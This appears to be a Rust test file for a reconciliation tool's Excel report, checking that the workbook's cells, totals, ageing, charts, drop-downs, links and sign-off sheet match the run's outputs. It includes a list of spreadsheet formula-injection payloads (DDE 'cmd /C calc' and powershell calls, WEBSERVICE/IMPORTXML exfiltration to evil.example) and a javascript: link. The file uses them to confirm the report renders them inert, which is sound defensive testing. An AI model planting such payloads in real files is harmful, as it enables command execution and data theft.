//! The workbook of a run, read with another library: every number against `summary.json` and `breaks.csv`.

use std::collections::{BTreeMap, BTreeSet};

use calamine::{Data, DataType as _};
use serde_json::Value;
use tieout::breaks::BreakKind;
use tieout::report::Facts;
use tieout::report::xlsx::render;
use tieout::shared::Shared;

use crate::support::project::TestProject;
use crate::support::workbook::Book;
use crate::support_facts::{a_day, clean, every_kind, extremes, found, hostile};

const RUN: &str = "rewards-daily/2025-03-19/1";

fn of_run() -> (TestProject, Book) {
    let project = TestProject::shipped("");
    project.run(&["run", "rewards-daily", "--period", "2025-03-19"]).ended_with(0);
    let book = Book::open(&project.path(&format!("runs/{RUN}/report.xlsx")));
    (project, book)
}

pub(crate) fn of(facts: &Facts, sheet_rows: usize) -> Book {
    let scratch = tempfile::tempdir().unwrap();
    let mut bytes = Vec::new();
    render(facts, sheet_rows, scratch.path(), &mut bytes).unwrap();
    Book::of(bytes)
}

/// What a cell holds, as the CSV file writes it.
fn as_csv(cell: &Data, decimals: Option<usize>) -> String {
    match (cell, decimals) {
        (Data::Empty, _) => String::new(),
        (Data::Float(number), Some(decimals)) => format!("{number:.decimals$}"),
        (Data::DateTime(time), _) => {
            // A sheet counts days in binary fractions, from the day before 1900: to the nearest second.
            let seconds = (time.as_f64() * 86_400.0).round();
            let start = chrono::NaiveDate::from_ymd_opt(1899, 12, 30).unwrap().and_hms_opt(0, 0, 0).unwrap();
            let time = start + chrono::TimeDelta::seconds(format!("{seconds}").parse().unwrap());
            time.format("%Y-%m-%dT%H:%M:%SZ").to_string()
        }
        (cell, _) => cell.to_string(),
    }
}

#[test]
fn every_cell_of_breaks_is_what_breaks_csv_says() {
    let (project, book) = of_run();
    let mut csv = csv::Reader::from_path(project.path(&format!("runs/{RUN}/breaks.csv"))).unwrap();
    let names: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<Vec<String>> = csv.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    let cells = book.cells("Breaks");
    // The reviewer's columns stand behind `detail`.
    let own = names.iter().position(|name| name == "detail").unwrap() + 1;
    assert_eq!(
        (0..3).map(|col| cells.get((0, own + col)).unwrap().to_string()).collect::<Vec<_>>(),
        ["Decision", "Comment", "Assign to"]
    );
    assert_eq!(rows.len(), 22);
    let mut amounts = 0;
    for (row, expected) in rows.iter().enumerate() {
        for (col, (name, expected)) in names.iter().zip(expected).enumerate() {
            let at = if col < own { col } else { col + 3 };
            let cell = cells.get((row + 1, at)).unwrap_or(&Data::Empty);
            let is_amount = ["at_risk", "difference"].contains(&name.as_str())
                || ["amount", "issuer_commission", "user_reward"].iter().any(|end| name.ends_with(&format!("_{end}")));
            let decimals = expected.split_once('.').filter(|_| is_amount).map(|(_, part)| part.len());
            if is_amount && !expected.is_empty() {
                assert!(cell.is_float(), "row {row} {name}: {cell:?} is a number");
                amounts += 1;
            }
            if name == "id" || name == "key" {
                assert!(cell.is_string(), "row {row} {name}: {cell:?} is text");
            }
            // A CSV cell that a program could take for a formula has an apostrophe before it.
            assert_eq!(as_csv(cell, decimals), expected.trim_start_matches('\''), "row {row} {name}");
        }
        for col in own..own + 3 {
            assert_eq!(cells.get((row + 1, col)).unwrap_or(&Data::Empty), &Data::Empty, "left to the reviewer");
        }
    }
    assert!(amounts > 50, "{amounts}");
}

/// The row that begins with a text, from there on.
fn row_of(cells: &calamine::Range<Data>, text: &str) -> usize {
    let is = |row: &&[Data]| row[0] == Data::String(text.to_owned());
    let row = cells.rows().position(|row| is(&row));
    row.unwrap_or_else(|| panic!("no row {text}"))
}

fn number(cell: &Data) -> f64 {
    cell.get_float().unwrap_or_else(|| panic!("{cell:?} is no number"))
}

/// A number without decimals.
fn whole(cell: &Data) -> u64 {
    number(cell).to_string().parse().unwrap()
}

/// Minor units of a number with two decimals.
fn minor(cell: &Data) -> i64 {
    let text = format!("{:.2}", number(cell));
    text.replace('.', "").parse().unwrap()
}

#[test]
fn the_summary_states_both_totals_the_lines_between_them_and_nothing_left_over() {
    let (project, book) = of_run();
    let summary = project.summary(RUN);
    let cells = book.cells("Summary");
    let rows: Vec<&[Data]> = cells.rows().collect();
    let mut at = row_of(&cells, "Line");
    let bridges = summary["statement"]["bridges"].as_array().unwrap();
    let mut seen = BTreeSet::new();
    for _ in bridges {
        at = (at..rows.len()).find(|row| rows[*row][0].to_string().starts_with("Total of ")).unwrap();
        let (currency, measure, way) = (rows[at][3].to_string(), rows[at][4].to_string(), rows[at][5].to_string());
        let measure = measure.replace(' ', "_");
        let is = |bridge: &&Value| {
            let (left, right) = (bridge["left"].as_str().unwrap(), bridge["right"].as_str().unwrap());
            bridge["currency"] == *currency && bridge["measure"] == *measure && way == format!("{left} to {right}")
        };
        let bridge = bridges.iter().find(is).unwrap_or_else(|| panic!("no bridge {currency} {measure} {way}"));
        assert!(seen.insert((currency, measure, way)));
        let exact =
            |value: &Value| value.as_i64().or_else(|| value.as_str().and_then(|text| text.parse().ok())).unwrap();
        assert_eq!(minor(&rows[at][2]), exact(&bridge["left_total_minor"]));
        for line in bridge["lines"].as_array().unwrap() {
            at += 1;
            assert_eq!(rows[at][0].to_string(), line["label"].as_str().unwrap());
            assert_eq!(minor(&rows[at][2]), exact(&line["amount_minor"]), "{}", line["label"]);
        }
        at += 1;
        assert_eq!(minor(&rows[at][2]), exact(&bridge["right_total_minor"]));
        at += 1;
        assert_eq!((rows[at][0].to_string().as_str(), minor(&rows[at][2])), ("Unexplained (must be zero)", 0));
    }
    assert_eq!(seen.len(), bridges.len());
}

#[test]
fn ageing_counts_each_open_break_once_by_kind_currency_and_age() {
    let (project, book) = of_run();
    let cells = book.cells("Ageing");
    let rows: Vec<&[Data]> = cells.rows().collect();
    let first = row_of(&cells, "Age") + 1;
    let open: u64 = (first..first + 5).map(|row| whole(&rows[row][1])).sum();
    assert_eq!(rows[first + 5][0].to_string(), "All open breaks");
    assert_eq!((open, whole(&rows[first + 5][1])), (22, 22));
    let csv = csv::Reader::from_path(project.path(&format!("runs/{RUN}/breaks.csv"))).unwrap();
    let mut risks = BTreeMap::<(String, String), (u64, i64)>::new();
    for row in csv.into_deserialize::<BTreeMap<String, String>>() {
        let row = row.unwrap();
        let sum = risks.entry((row["kind"].replace('_', " "), row["measure"].replace('_', " "))).or_default();
        sum.0 += 1;
        sum.1 += row["at_risk"].replace('.', "").parse::<i64>().unwrap();
    }
    let section = |title: &str| {
        let start = row_of(&cells, title) + 2;
        rows[start..].iter().take_while(|row| row[0] != Data::Empty).copied().collect::<Vec<_>>()
    };
    let (counts, amounts) = (section("Open breaks by kind and age"), section("At risk by kind and age"));
    assert_eq!((counts.len(), amounts.len()), (risks.len(), risks.len()));
    for (counts, amounts) in counts.iter().zip(&amounts) {
        let (breaks, at_risk) = risks[&(counts[0].to_string(), counts[2].to_string())];
        // The ages, and their sum by the sheet itself.
        let added: u64 = counts[3..8].iter().filter(|cell| cell.is_float()).map(whole).sum();
        assert_eq!((added, whole(&counts[8])), (breaks, breaks));
        assert_eq!(minor(&amounts[8]), at_risk, "{}", amounts[0]);
    }
}

#[test]
fn explained_has_every_line_that_is_no_break_and_all_that_waits() {
    let (project, book) = of_run();
    let summary = project.summary(RUN);
    let cells = book.cells("Explained");
    let rows: Vec<&[Data]> = cells.rows().collect();
    let start = row_of(&cells, "Line") + 1;
    let listed: Vec<_> = rows[start..].iter().take_while(|row| row[0] != Data::Empty).collect();
    let lines =
        summary["statement"]["bridges"].as_array().unwrap().iter().flat_map(|one| one["lines"].as_array().unwrap());
    let explained: Vec<&Value> = lines.filter(|line| !line["label"].as_str().unwrap().starts_with("break")).collect();
    assert_eq!(listed.len(), explained.len());
    let sum = |all: &[&Value]| -> i64 {
        all.iter()
            .map(|line| line["amount_minor"].as_i64().or_else(|| line["amount_minor"].as_str()?.parse().ok()).unwrap())
            .sum()
    };
    assert_eq!(listed.iter().map(|row| minor(&row[2])).sum::<i64>(), sum(&explained));
    let waits = row_of(&cells, "in grace: the counterpart is not due yet");
    assert!(number(&rows[waits][1]) > 0.0);
}

#[test]
fn charts_are_drawn_from_cells_with_a_title_and_a_text_for_those_who_do_not_see_them() {
    let mut facts = a_day();
    for day in 0..25 {
        let one = found(BreakKind::FileOnly, &format!("old-{day}"), "USD", 100);
        let life = tieout::report::facts::LifeFacts {
            owner: None,
            first_period: "2025-02-01".to_owned(),
            age_business_days: day,
            comments: 0,
        };
        facts.lives.insert(one.id.clone(), life);
        facts.breaks.push(one);
    }
    let book = of(&facts, 1_000_000);
    let charts: Vec<_> = book.parts().into_iter().filter(|(name, _)| name.starts_with("xl/charts/chart")).collect();
    // Breaks by kind, what is at risk in USD, JPY and KWD at most, ageing.
    assert!(charts.len() >= 3, "{}", charts.len());
    let mut titles = BTreeSet::new();
    for (name, xml) in &charts {
        let xml = std::str::from_utf8(xml).unwrap();
        let title = xml.split("<a:t>").nth(1).and_then(|rest| rest.split('<').next());
        titles.insert(title.unwrap_or_else(|| panic!("{name} has no title")).to_owned());
        assert!(xml.contains("<c:f>Charts!$A$4:$A$") || xml.contains("<c:f>Ageing!$A$6:$A$10</c:f>"), "{name}: {xml}");
        assert!(!xml.contains("Lit>"), "{name} has figures of its own");
    }
    for title in ["Breaks by kind", "At risk by kind, USD", "Open breaks by age in business days"] {
        assert!(titles.contains(title), "{titles:?}");
    }
    let drawing = book.part("xl/drawings/drawing1.xml");
    assert_eq!(drawing.matches(" descr=\"").count(), charts.len());
    let cells = book.cells("Ageing");
    let first = row_of(&cells, "Age") + 1;
    let ages: Vec<u64> = (0..5).map(|bucket| whole(cells.get((first + bucket, 1)).unwrap())).collect();
    // Those of the day have no life yet, so they are new; one has age 0, five 1 to 5, …
    let new = facts.open_breaks() - 25;
    assert_eq!(ages, [new + 1, 5, 5, 11, 3]);
    assert!(of(&clean(), 10).parts().iter().all(|(name, _)| !name.starts_with("xl/charts/")), "nothing to draw");
}

#[test]
fn the_reviewers_cells_have_a_drop_down_of_the_words_that_are_read_back() {
    let (_project, book) = of_run();
    let at = |name: &str| 1 + book.sheets().iter().position(|sheet| sheet == name).unwrap();
    let xml = |name: &str| book.part(&format!("xl/worksheets/sheet{}.xml", at(name)));
    let choice = |xml: &str| {
        let start = xml.find("<dataValidation ").expect("a drop-down");
        xml[start..start + xml[start..].find("</dataValidation>").unwrap()].to_owned()
    };
    let breaks = choice(&xml("Breaks"));
    assert!(breaks.contains("sqref=\"L2:L23\""), "{breaks}");
    let words = "confirm,assign,write off,force match,reopen,approve audit,reject audit";
    assert!(breaks.contains(&format!("<formula1>\"{words}\"</formula1>")), "{breaks}");
    assert!(choice(&xml("Effects")).contains("<formula1>\"approve,reject\"</formula1>"));
    assert!(choice(&xml("Suggested")).contains("<formula1>\"accept suggestion,assign\"</formula1>"));
    // Without effects nothing can be approved.
    let alone = of(&a_day(), 10);
    let at = 1 + alone.sheets().iter().position(|sheet| sheet == "Breaks").unwrap();
    let alone = choice(&alone.part(&format!("xl/worksheets/sheet{at}.xml")));
    assert!(alone.contains("<formula1>\"confirm,assign,write off,force match,reopen\"</formula1>"), "{alone}");
}

#[test]
fn rows_lead_to_their_pages_where_the_project_says_how_people_reach_them() {
    let mut facts = a_day();
    facts.effects = Some(crate::support::effects::some_of_all());
    let without = of(&facts, 1_000_000);
    assert!(without.parts().iter().all(|(_, bytes)| !String::from_utf8_lossy(bytes).contains("<hyperlink ")));
    facts.run.pages = Some("https://tieout.acme.example/r".to_owned());
    "re/wards &<\"1".clone_into(&mut facts.job.name);
    let book = of(&facts, 1_000_000);
    let all: String = book
        .parts()
        .into_iter()
        .filter(|(name, _)| name.starts_with("xl/worksheets/_rels/"))
        .map(|(_, bytes)| String::from_utf8(bytes).unwrap())
        .collect();
    let run = "https://tieout.acme.example/r/runs/re%2Fwards%20%26%3C%221/2025-03-19/1";
    for found in facts.breaks.iter() {
        assert!(all.contains(&format!("Target=\"{run}/breaks/{}\"", found.id)), "{all}");
    }
    assert!(all.contains(&format!("Target=\"{run}\"")), "the run's own page");
    let effect = &facts.effects.as_ref().unwrap().planned[0].effect.id;
    assert!(all.contains(&format!("Target=\"https://tieout.acme.example/r/effects/{effect}\"")));
    assert_eq!(book.list("Breaks")[0]["Break id"], Data::String(facts.breaks.get(0).id), "the id stays text");
    facts.run.pages = Some("javascript:alert(1)".to_owned());
    let odd = of(&facts, 1_000_000);
    assert!(odd.parts().iter().all(|(_, bytes)| !String::from_utf8_lossy(bytes).contains("<hyperlink ")));
}

#[test]
fn only_the_first_65530_rows_of_a_sheet_have_links_and_the_summary_says_so() {
    let mut facts = clean();
    facts.run.pages = Some("https://t.example".to_owned());
    facts.breaks = (0..65_540).map(|n| found(BreakKind::FileOnly, &format!("txn-{n}"), "USD", 1)).collect();
    let book = of(&facts, 1_000_000);
    let at = 1 + book.sheets().iter().position(|sheet| sheet == "Breaks").unwrap();
    let xml = book.part(&format!("xl/worksheets/sheet{at}.xml"));
    assert_eq!(xml.matches("<hyperlink ").count(), 65_530);
    assert!(xml.contains("<hyperlink ref=\"A65531\"") && !xml.contains("<hyperlink ref=\"A65532\""));
    row_of(&book.cells("Summary"), "The first 65,530 rows of a sheet link to their pages: Excel takes no more.");
}

#[test]
fn sign_off_says_what_is_signed_and_the_hidden_sheet_which_run_it_is() {
    let (project, book) = of_run();
    let summary = project.summary(RUN);
    let plan = summary["effects"]["plan"].as_str().unwrap();
    let cells = book.cells("Sign-off");
    let value = |name: &str| cells.get((row_of(&cells, name), 1)).unwrap().to_string();
    assert_eq!((value("Run"), value("Plan's digest")), (RUN.to_owned(), plan.to_owned()));
    for input in summary["inputs"].as_array().unwrap() {
        row_of(&cells, &input["sha256"].as_str().unwrap()[..12]);
    }
    for name in ["Preparer", "Reviewer", "Statement", "Name", "Date and time (UTC)"] {
        row_of(&cells, name);
    }
    let workbook = book.part("xl/workbook.xml");
    let sheet = workbook.split("<sheet ").find(|sheet| sheet.contains("name=\"tieout\"")).unwrap();
    assert!(sheet.contains("state=\"veryHidden\""), "{sheet}");
    let mark = book.cells("tieout");
    let rows: Vec<(String, String)> = mark.rows().map(|row| (row[0].to_string(), row[1].to_string())).collect();
    let has = |name: &str, value: &str| rows.contains(&(name.to_owned(), value.to_owned()));
    assert!(has("schema", "tieout.workbook/1") && has("run", RUN) && has("plan", plan), "{rows:?}");
    assert_eq!(rows.iter().filter(|(name, _)| name == "input_sha256").count(), 3);
}

/// What makes formulas, links, commands and worse of text, in one program or another.
pub(crate) const PAYLOADS: [&str; 30] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\"=1+1",
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "{=SUM(A1:A9)}",
    "=2+5+cmd|'/C powershell'!A0",
    "_xlfn.CONCAT(1)",
    "http://evil.example/",
    "mailto:a@evil.example?subject=1",
    "<f>1+1</f>&#61;1",
];

/// A run in which every text of others is one of them.
pub(crate) fn poisoned() -> Facts {
    let mut facts = a_day();
    facts.effects = Some(crate::support::effects::some_of_all());
    let model = facts.breaks.get(0);
    facts.breaks = Vec::new().into();
    for (index, payload) in PAYLOADS.iter().enumerate() {
        let mut one = model.clone();
        one.id = format!("{index:016x}");
        for text in [&mut one.key, &mut one.detail] {
            (*payload).clone_into(text);
        }
        for side in one.sides.iter_mut().flatten().map(Shared::to_mut) {
            for text in [&mut side.merchant, &mut side.user, &mut side.status, &mut side.reason] {
                *text = Some((*payload).to_owned());
            }
        }
        facts.breaks.push(one);
        facts.expected.insert((*payload).to_owned(), 1);
        let life = tieout::report::facts::LifeFacts {
            owner: Some((*payload).to_owned()),
            first_period: (*payload).to_owned(),
            age_business_days: 3,
            comments: 0,
        };
        facts.lives.insert(format!("{index:016x}"), life);
    }
    for (input, payload) in facts.inputs.iter_mut().zip(PAYLOADS) {
        input.name = format!("{payload}.csv");
        payload.clone_into(&mut input.origin);
    }
    facts.job.description = Some(PAYLOADS[1].to_owned());
    facts.run.note = Some(PAYLOADS[2].to_owned());
    facts.job.parameters = PAYLOADS.iter().map(|payload| ((*payload).to_owned(), (*payload).to_owned())).collect();
    let effects = facts.effects.as_mut().unwrap();
    for (standing, payload) in effects.planned.iter_mut().zip(PAYLOADS) {
        payload.clone_into(&mut standing.effect.user);
        payload.clone_into(&mut standing.effect.key.transaction);
        standing.said = Some(payload.to_owned());
    }
    facts
}

#[test]
fn thirty_payloads_in_every_text_field_are_text() {
    for facts in [poisoned(), hostile(), every_kind(), extremes()] {
        let book = of(&facts, 1_000_000);
        for sheet in book.sheets() {
            for formula in book.formulas(&sheet) {
                let ours = ["SUMIFS(F$2:F$", "ROUND(SUM(", "SUM(B"].iter().any(|known| formula.starts_with(known));
                assert!(ours && !formula.contains('"'), "{sheet}: {formula}");
            }
        }
    }
    let book = of(&poisoned(), 1_000_000);
    let rows = book.list("Breaks");
    assert_eq!(rows.len(), 30);
    for (row, payload) in rows.iter().zip(PAYLOADS) {
        // What cannot be seen is shown to be there, and all else stays as it is.
        let shown: String = payload.chars().map(|c| if tieout::text::is_hidden(c) { '\u{fffd}' } else { c }).collect();
        for head in ["Key", "What differs", "Owner"] {
            assert_eq!(row[head], Data::String(shown.clone()), "{payload:?} in {head}");
        }
    }
}
